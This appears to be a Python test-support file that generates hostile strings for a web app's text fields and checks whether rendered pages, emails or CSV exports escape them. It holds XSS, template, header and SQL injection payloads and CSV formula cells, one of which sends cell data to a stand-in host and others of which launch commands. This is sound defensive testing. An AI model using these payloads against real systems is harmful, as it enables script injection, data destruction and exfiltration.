"""Hostile strings for every free-text field, and how to tell whether a page,
an email, a JSON body or a CSV file let one through.

Each field gets its own tag (F01, F02...) inside every piece of markup it
carries, so a leak names the field it came from. A value starts with a
spreadsheet formula and then holds, as its column's length allows: a script
element, a Jinja expression, an attribute breakout, a header injection, SQL,
bidirectional and zero-width characters and a javascript: URL."""

from __future__ import annotations

import re
from collections.abc import Iterable
from dataclasses import dataclass

from markupsafe import escape

# Field -> the longest value its column takes. The world's fields
# (build_own_world in tests/support/world.py) and those the escaping test adds.
FIELD_LENGTHS: dict[str, int] = {
    "business_name": 120,
    "partnership_message": 2000,
    "customer_name": 120,
    "customer_address": 255,
    "customer_notes": 2000,
    "job_description": 500,
    "referral_need": 2000,
    "preferred_contact_time": 120,
    "reason": 2000,
    "lead_need": 2000,
    "api_key_name": 80,
    "owner_name": 120,
    "staff_name": 120,
    "business_description": 2000,
    "proposal_decline_reason": 2000,
    "dispute_note": 2000,
    "offer_title": 120,
    "offer_benefit": 200,
    "offer_description": 2000,
}
TAGS = {field: f"F{n:02d}" for n, field in enumerate(FIELD_LENGTHS, start=1)}
FIELD_OF_TAG = {tag: field for field, tag in TAGS.items()}

# What each value starts with: the spreadsheet formulas OWASP names.
FORMULAS = ("=1+1", "+1+1", "-$=1", "@SUM(1)", "-1+1", "=HYPERLINK(0)")


def _pieces(tag: str) -> list[str]:
    return [
        f"<script>alert('{tag}')</script>",
        "[{{7*7}}]",
        f"\"><img src=x onerror=alert('{tag}')>",
        "\r\nSet-Cookie: x=1",
        "'; DROP TABLE referral; --",
        "\u202e\u200b",
        "Robert'); DELETE FROM business;--",
        "javascript:alert(1)",
    ]


def hostile_text(field: str) -> str:
    """The hostile value of `field`: as many pieces as its column takes."""
    tag = TAGS[field]
    value = f"{FORMULAS[(int(tag[1:]) - 1) % len(FORMULAS)]} {tag}"
    for piece in _pieces(tag):
        if len(value) + 1 + len(piece) <= FIELD_LENGTHS[field]:
            value += " " + piece
    return value


HOSTILE = {field: hostile_text(field) for field in FIELD_LENGTHS}

# Markup that must never reach a page or an HTML email as markup.
_LEAKS = {
    "a script element": re.compile(r"<script>alert\('(F\d\d)'\)"),
    "an onerror attribute": re.compile(r"<img src=x onerror=alert\('(F\d\d)'\)"),
    "a Jinja expression evaluated": re.compile(r"\[49\]()"),
    "a javascript: URL": re.compile(r"(?i)(?:href|src|action)\s*=\s*[\"']?\s*javascript:()"),
    "text escaped twice": re.compile(r"&amp;(?:lt|gt|#39|#34|quot|amp);()"),
}


def html_leaks(where: str, html: str) -> list[str]:
    """The hostile markup `html` lets through, naming the field it came from."""
    found: dict[tuple[str, str], str] = {}
    for what, pattern in _LEAKS.items():
        for match in pattern.finditer(html):
            field = FIELD_OF_TAG.get(match.group(1), "some field")
            context = html[max(0, match.start() - 60) : match.end() + 20]
            found.setdefault((what, field), f"{where}: {what} from {field}: ...{context!r}...")
    return list(found.values())


def escaped_fields(html: str) -> set[str]:
    """The fields whose whole value `html` shows, escaped."""
    return {field for field, value in HOSTILE.items() if str(escape(value)) in html}


def verbatim_fields(texts: Iterable[str]) -> set[str]:
    """The fields whose whole value is one of `texts` or inside one, unaltered."""
    texts = list(texts)
    return {field for field, value in HOSTILE.items() if any(value in t for t in texts)}


@dataclass(frozen=True)
class FormulaCell:
    """A cell a spreadsheet would run, and what a safe export writes instead."""

    given: str

    @property
    def neutralised(self) -> str:
        return "'" + self.given


# OWASP's CSV injection list: = + - @, tab and carriage return first.
FORMULA_CELLS = [
    FormulaCell(text)
    for text in (
        '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
        "+cmd|' /C calc'!A0",
        "-1+1",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "-$=1+1",
        "=1+1",
    )
]
